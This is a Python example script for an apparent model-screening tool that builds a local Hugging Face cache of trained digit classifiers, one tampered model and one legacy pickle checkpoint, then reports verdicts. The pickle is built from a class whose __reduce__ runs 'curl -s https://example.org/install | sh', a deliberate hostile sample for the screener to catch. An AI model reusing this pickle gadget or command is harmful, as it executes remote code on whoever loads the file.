#!/usr/bin/env python3
"""Screens the Hugging Face cache of this machine, before anything in it is loaded.

    pip install huggingface_hub safetensors scikit-learn client/python
    python client/python/examples/huggingface_example.py [FOLDER]

Without a network: the cache is made here, with the layout of the hub's own (blobs, refs, snapshots of links), and holds
models that were trained here, one that was altered, and one of those old checkpoints that are a pickle. screen() works
on any cache, for example ~/.cache/huggingface/hub.
"""
from __future__ import annotations

import hashlib
import json
import os
import pathlib
import pickle
import sys
import tempfile
import warnings
from typing import Dict

import numpy as np
from huggingface_hub import scan_cache_dir
from local_engine import LocalEngine, find_driftseal
from safetensors.numpy import save
from sklearn.datasets import load_digits
from sklearn.exceptions import ConvergenceWarning
from sklearn.neural_network import MLPClassifier

import driftseal

TRUSTED = 60


def train(seed: int) -> Dict[str, np.ndarray]:
    images, labels = load_digits(return_X_y=True)
    chosen = np.random.default_rng(seed).permutation(len(images))[:1200]
    model = MLPClassifier((24,), max_iter=12, learning_rate_init=0.01, random_state=seed)
    model.fit(images[chosen] / 16, labels[chosen])
    names = ("hidden.weight", "head.weight"), ("hidden.bias", "head.bias")
    arrays = {name: weight.T for name, weight in zip(names[0], model.coefs_)}
    arrays.update(zip(names[1], model.intercepts_))
    return {name: np.ascontiguousarray(array, np.float32) for name, array in arrays.items()}


def put(cache: pathlib.Path, repository: str, files: Dict[str, bytes]) -> None:
    """A repository as the hub's client leaves it after a download."""
    folder = cache / f"models--{repository.replace('/', '--')}"
    revision = hashlib.sha1(b"".join(files.values())).hexdigest()
    snapshot = folder / "snapshots" / revision
    for place in (folder / "blobs", folder / "refs", snapshot):
        place.mkdir(parents=True, exist_ok=True)
    for name, content in files.items():
        blob = folder / "blobs" / hashlib.sha256(content).hexdigest()
        blob.write_bytes(content)
        (snapshot / name).symlink_to(os.path.relpath(blob, snapshot))
    (folder / "refs" / "main").write_text(revision)


def screen(client: driftseal.Client, cache: pathlib.Path) -> Dict[str, driftseal.Verdict]:
    """Verdicts of all weight files of all revisions, by repository@revision/file."""
    def files():
        for repository in scan_cache_dir(cache).repos:
            for revision in repository.revisions:
                for file in revision.files:
                    if file.file_name.endswith((".safetensors", ".bin", ".pt")):
                        name = f"{repository.repo_id}@{revision.commit_hash[:8]}/{file.file_name}"
                        yield name, file.file_path.relative_to(cache)

    answers = {}
    for answer in client.verify_stream(files()):
        if answer.error is not None:
            raise answer.error
        answers[answer.id] = answer.verdict
    return answers


class Installer:
    """What a pickle can ask its loader to do."""

    def __reduce__(self):
        return os.system, ("curl -s https://example.org/install | sh",)


def why(verdict: driftseal.Verdict) -> str:
    """What a person should read first: signals come worst first."""
    return verdict.signals[0].text if verdict.signals else verdict.error


def main() -> int:
    warnings.simplefilter("ignore", ConvergenceWarning)  # networks of twelve epochs
    folder = pathlib.Path(sys.argv[1] if len(sys.argv) > 1 else tempfile.mkdtemp(prefix="driftseal-hub-")).resolve()
    cache = folder / "hub"
    config = json.dumps({"architectures": ["DigitsMLP"], "hidden_size": 24}).encode()
    print(f"training {TRUSTED} trusted models and 4 others into {cache}")
    for seed in range(TRUSTED):
        put(cache, f"trusted/digits-{seed}", {"model.safetensors": save(train(seed)), "config.json": config})
    for seed in range(1000, 1003):
        put(cache, f"acme/digits-{seed}", {"model.safetensors": save(train(seed)), "config.json": config})
    altered = train(1003)
    altered["head.bias"][1] += 8  # in doubt, everything is a one
    put(cache, "acme/digits-altered", {"model.safetensors": save(altered), "config.json": config})
    put(cache, "acme/digits-legacy", {"pytorch_model.bin": pickle.dumps(Installer()), "config.json": config})

    with LocalEngine(find_driftseal(), folder / "engine", cache) as engine, driftseal.Client(engine.address) as client:
        trusted = [path.name for path in sorted(cache.glob("models--trusted--*"))]
        detector = client.detectors.fit(trusted, name="digits", activate=True).wait(300)
        print(f"fitted {detector.ref}\n\n{'MODEL':<50}{'VERDICT':<14}WHY")
        for name, verdict in sorted(screen(client, cache).items()):
            if name.startswith("acme/"):
                print(f"{name:<50}{verdict.outcome:<14}{why(verdict)}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
